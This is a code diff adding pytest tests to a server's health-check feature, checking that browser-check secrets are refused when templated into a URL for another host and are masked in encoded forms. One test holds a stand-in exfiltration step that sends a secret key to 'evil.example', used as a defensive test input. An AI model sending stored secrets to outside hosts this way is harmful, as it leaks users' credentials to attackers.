@@ -7,6 +7,7 @@ from typing import Any
 import pytest
 import sqlalchemy as sa
 from mainstay_server.areas.health_checks import area
+from mainstay_server.areas.health_checks.schemas.places import without
 from mainstay_server.kernel import columns
 from mainstay_server.kernel.database import reading
 from mainstay_server.kernel.events import said_events
@@ -83,3 +84,29 @@ def test_a_secret_is_sealed_and_told_to_nobody(
     assert SECRET not in everything_kept()
     assert SECRET not in caplog.text
     assert "•••" in told[1].text, "what was hidden is marked"
+
+
+def test_a_kept_secret_of_a_browser_goes_to_no_other_host(world: World) -> None:
+    path = f"/api/instances/{world.instance.id}/health-checks"
+    config = {"page": "https://shop.example/login", "secrets": {"key": SECRET}}
+    made = world.bob.post(path, json={"kind": "browser", "name": "x", "config": config})
+    here = f"{path}/{made.json()['id']}"
+    elsewhere = {"action": "goto", "value": "https://evil.example/?key={{key}}"}
+
+    refused = world.bob.patch(here, json={"config": {"page": config["page"], "steps": [elsewhere]}})
+
+    assert refused.status_code == 400
+    assert "secrets.key" in refused.json()["detail"]
+
+
+def test_a_secret_is_hidden_as_urls_forms_and_json_write_it() -> None:
+    secret = 'pass "word" /&ü'
+
+    for shown in (
+        secret,
+        "pass%20%22word%22%20%2F%26%C3%BC",
+        "pass%20%22word%22%20/&%C3%BC",
+        "pass+%22word%22+%2F%26%C3%BC",
+        'pass \\"word\\" /&\\u00fc',
+    ):
+        assert without(f"<{shown}>", [secret]) == "<•••>", shown
